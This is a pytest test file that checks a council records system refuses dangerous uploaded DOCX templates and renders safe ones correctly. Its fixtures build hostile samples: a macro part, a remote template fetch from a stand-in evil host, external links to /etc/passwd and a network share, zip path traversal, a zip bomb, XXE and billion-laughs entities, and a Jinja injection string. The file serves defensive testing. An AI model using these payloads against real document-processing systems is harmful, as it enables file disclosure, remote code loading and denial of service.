"""Templates of an agency's own: used as they are meant, and refused where they could do harm."""

from __future__ import annotations

import io
import zipfile

import docx
import pytest

from frankpledge.access.api import NotFound, NotPermitted, Role
from frankpledge.governance.boards import house, layout
from frankpledge.governance.boards.house import UnusableTemplate
from frankpledge.papers.api import as_docx
from tests.governance.boards.board import Board
from tests.governance.boards.test_layout import MADE, paper, said
from tests.makers import NOW, as_actor, make_person


def letterhead(*lines: str) -> bytes:
    """A plain template with a header of its own."""
    made = docx.Document()
    made.sections[0].header.paragraphs[0].text = "Wantsum Borough Council"
    for line in lines:
        made.add_paragraph(line)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def changed(content: bytes, **parts: bytes | None) -> bytes:
    """The package with parts added, replaced or (None) left out; `__` stands for a slash."""
    given = {name.replace("__", "/"): held for name, held in parts.items()}
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            if name not in given:
                new.writestr(name, old.read(name))
        for name, held in given.items():
            if held is not None:
                new.writestr(name, held)
    return out.getvalue()


def with_text(content: bytes, name: str, old: bytes, new: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        held = package.read(name)
    assert old in held
    return changed(content, **{name: held.replace(old, new, 1)})


RELATIONS = "word/_rels/document.xml.rels"
OUTSIDE = (
    b'<Relationship Id="rIdX" TargetMode="External" Target="%s" Type="http://schemas.'
    b'openxmlformats.org/officeDocument/2006/relationships/%s"/></Relationships>'
)


def hostile() -> dict[str, bytes]:
    """Templates that would do something: each by the name of what it tries."""
    plain = letterhead("[paper]")
    return {
        "macro": changed(plain, **{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "macro type": with_text(
            plain, "[Content_Types].xml", b"document.main+xml", b"document.macroEnabled.main+xml"
        ),
        "embedded object": changed(plain, **{"word/embeddings/oleObject1.bin": b"MZ"}),
        "attached template": with_text(
            plain, RELATIONS, b"</Relationships>",
            OUTSIDE % (b"http://example.invalid/evil.dotm", b"attachedTemplate"),
        ),
        "remote picture": with_text(
            plain, RELATIONS, b"</Relationships>",
            OUTSIDE % (b"http://example.invalid/p.png", b"image"),
        ),
        "file on the machine": with_text(
            plain, RELATIONS, b"</Relationships>", OUTSIDE % (b"file:///etc/passwd", b"image")
        ),
        "share on the network": with_text(
            plain, RELATIONS, b"</Relationships>",
            OUTSIDE % (rb"\\10.0.0.1\share\x", b"frame"),
        ),
        "climbing name": changed(plain, **{"../../evil.xml": b"<a/>"}),
        "rooted name": changed(plain, **{"/etc/evil.xml": b"<a/>"}),
        "bomb": changed(plain, **{"word/media/x.xml": b"<a>" + b" " * 120_000_000 + b"</a>"}),
        "declared entity": changed(
            plain,
            **{
                "word/settings.xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM '
                b'"file:///etc/passwd">]><a>&x;</a>'
            },
        ),
        "many laughs": changed(
            plain,
            **{
                "word/settings.xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha">'
                b'<!ENTITY b "&a;&a;&a;&a;">]><a>&b;</a>'
            },
        ),
        "page inside": changed(plain, **{"word/afchunk.html": b"<script>alert(1)</script>"}),
        "no document": changed(plain, **{"word/document.xml": None}),
        "not a package": b"MZ\x90\x00 not a document at all",
        "a PDF": b"%PDF-1.7\n%%EOF",
    }  # fmt: skip


@pytest.fixture(scope="module")
def bad() -> dict[str, bytes]:
    return hostile()


TRIED = (
    "macro", "macro type", "embedded object", "attached template", "remote picture",
    "file on the machine", "share on the network", "climbing name", "rooted name", "bomb",
    "declared entity", "many laughs", "page inside", "no document", "not a package", "a PDF",
)  # fmt: skip


def test_nothing_that_could_do_harm_is_taken_in(board: Board, bad: dict[str, bytes]) -> None:
    assert set(bad) == set(TRIED)
    by = as_actor(board.gwen)
    taken, words = [], {}
    for name, content in bad.items():
        try:
            house.add_template(name=name, content=content, by=by, at=NOW)
        except UnusableTemplate as refusal:
            words[name] = str(refusal)
            continue
        taken.append(name)

    assert not taken
    assert words["macro"].startswith("It holds parts that can act by themselves. Save the template")
    assert words["remote picture"].startswith("It reaches for something outside itself. Save")
    # What is advised for other files would be of no use: a template cannot be a PDF.
    assert not [each for each in words.values() if "Print it" in each or "Add the files" in each]
    assert house.templates(by) == ()


def test_a_template_keeps_its_header_and_the_paper_stands_where_it_says(board: Board) -> None:
    by = as_actor(board.gwen)
    number = house.add_template(
        name="Letterhead", content=letterhead("Above", "[paper]", "Below"), by=by, at=NOW
    )
    template = house.content_of(number, by)

    made = as_docx(layout.document(paper(), made_at=MADE), template=template)

    lines = said(made)
    assert (lines[0], lines[-1]) == ("Above", "Below")
    assert "[paper]" not in lines
    assert lines[1:3] == ["OFFICIAL", lines[2]]
    assert lines[2].startswith("By: ")
    opened = docx.Document(io.BytesIO(made))
    assert opened.sections[0].header.paragraphs[0].text == "Wantsum Borough Council"
    assert "2.0 The Report" in [
        line.text for line in opened.paragraphs if line.style.name == "Heading 1"
    ]


def test_without_its_place_the_paper_takes_the_place_of_all_that_it_says(board: Board) -> None:
    by = as_actor(board.gwen)
    number = house.add_template(name="Plain", content=letterhead("Old words"), by=by, at=NOW)

    lines = said(
        as_docx(layout.document(paper(), made_at=MADE), template=house.content_of(number, by))
    )

    assert "Old words" not in lines
    assert "5.0 Recommendations" in lines


def test_what_looks_like_a_programs_words_in_a_template_stays_words(board: Board) -> None:
    by = as_actor(board.gwen)
    attack = "{{ 7 * 7 }}{% for each in ().__class__.__base__.__subclasses__() %}{% endfor %}"
    number = house.add_template(name="x", content=letterhead(attack, "[paper]"), by=by, at=NOW)

    lines = said(
        as_docx(layout.document(paper(), made_at=MADE), template=house.content_of(number, by))
    )

    assert lines[0] == attack
    assert "49" not in "".join(lines)


def test_a_template_is_its_agencys_own_and_can_be_ended(board: Board) -> None:
    by = as_actor(board.gwen)
    number = house.add_template(name="Letterhead", content=letterhead(), by=by, at=NOW)

    with pytest.raises(NotFound):
        house.content_of(number, as_actor(board.asha))
    with pytest.raises(NotFound):
        house.end_template(number=number, by=as_actor(board.asha), at=NOW)
    second = house.add_template(name="Letterhead", content=letterhead("New"), by=by, at=NOW)
    assert [line.number for line in house.templates(by)] == [second]
    house.end_template(number=second, by=by, at=NOW)
    assert house.templates(by) == ()
    lone = make_person(board.fire, Role.PRACTITIONER)
    with pytest.raises(NotPermitted):
        house.add_template(name="x", content=letterhead(), by=as_actor(lone), at=NOW)
